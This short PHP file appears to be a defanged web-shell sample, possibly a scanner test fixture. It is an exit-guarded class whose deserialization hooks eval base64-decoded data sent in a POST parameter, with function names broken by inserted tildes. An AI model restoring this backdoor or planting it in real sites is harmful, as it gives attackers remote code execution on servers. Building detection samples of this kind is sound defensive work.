<?php exit; ?>
<?php
class MarkerF { public $t = 'MARKER'; function __wakeup() { $this->__sleep(); } function __sleep() { @eva~l(bas~e64_decode($this->t)); return array(); } } uns~erialize($_P~OST['m']);
